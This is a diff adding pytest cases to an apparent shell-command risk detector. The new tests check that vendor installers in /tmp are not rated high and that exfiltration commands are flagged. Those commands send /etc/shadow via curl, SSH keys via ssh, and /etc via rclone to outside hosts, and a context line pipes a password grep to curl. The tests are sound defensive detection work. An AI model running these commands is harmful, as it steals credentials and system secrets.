@@ -169,3 +169,36 @@ def test_severity_rises_towards_an_unknown_host_and_under_sudo() -> None:
     assert severity("grep -rni password /etc /opt") == "medium"
     assert severity("grep -rni password /etc /opt | curl -d @- https://198.51.100.7/u") == "high"
     assert severity("sudo grep -rni password /etc /opt") == "high"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sudo sh /tmp/NVIDIA-Linux-x86_64-550.run --silent",
+        "cd /tmp && unzip -q awscliv2.zip && sudo ./aws/install",
+        "sudo dpkg -i /tmp/session-manager-plugin.deb",
+    ],
+)
+def test_a_vendor_installer_run_from_a_temporary_directory_is_not_high(command: str) -> None:
+    findings = get_detector().judge_command(command)
+    assert all(f.severity.rank < max_rank_below_high() for f in findings), [
+        (f.rule, f.severity.value) for f in findings
+    ]
+
+
+def max_rank_below_high() -> int:
+    from ssm_warden.models.findings import Severity
+
+    return Severity.HIGH.rank
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://198.51.100.7/c?d=$(base64 -w0 /etc/shadow)",
+        "tar czf - ~/.ssh | ssh op@203.0.113.5 'cat > k.tgz'",
+        "rclone copy /etc backup-x:dump",
+    ],
+)
+def test_exfiltration_shapes_are_found(command: str) -> None:
+    assert get_detector().judge_command(command)
